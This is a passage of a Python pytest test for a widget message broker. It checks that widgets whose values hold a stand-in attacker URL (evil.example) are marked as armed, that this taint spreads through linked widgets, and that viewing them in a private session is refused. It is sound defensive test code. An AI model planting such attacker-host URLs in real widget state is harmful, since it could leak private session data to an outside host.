    to another Label: the page copied the value, so the other Label is armed
    too (and what it is linked to in turn)."""
    w = WidgetComms()
    w.from_sandbox(open_msg("a", state(value="see https://evil.example/m")), [], private=False)
    w.from_sandbox(open_msg("b", state(value="b")), [], private=False)
    w.from_sandbox(open_msg("c", state(value="c")), [], private=False)
    assert w._comms["a"].armed and not w._comms["b"].armed
    w.from_sandbox(open_msg("l1", _link(("b", "value"), ("c", "value"))), [], private=False)
    w.from_sandbox(open_msg("l2", _link(("a", "value"), ("b", "value"), "DirectionalLinkModel")), [], private=False)
    for model in ("b", "c"):
        with pytest.raises(WidgetRefused, match="made while the session was public"):
            w.view({"model_id": model}, private=True)
    # and the other way: a model armed after it was linked
    w.from_sandbox(open_msg("d", state(value="d")), [], private=False)
    w.from_sandbox(open_msg("e", state(value="e")), [], private=False)
    w.from_sandbox(open_msg("l3", _link(("d", "value"), ("e", "value"))), [], private=False)
    w.from_sandbox(update_msg("d", {"value": "see https://evil.example/n"}), [], private=False)
    with pytest.raises(WidgetRefused, match="made while the session was public"):
        w.view({"model_id": "e"}, private=True)
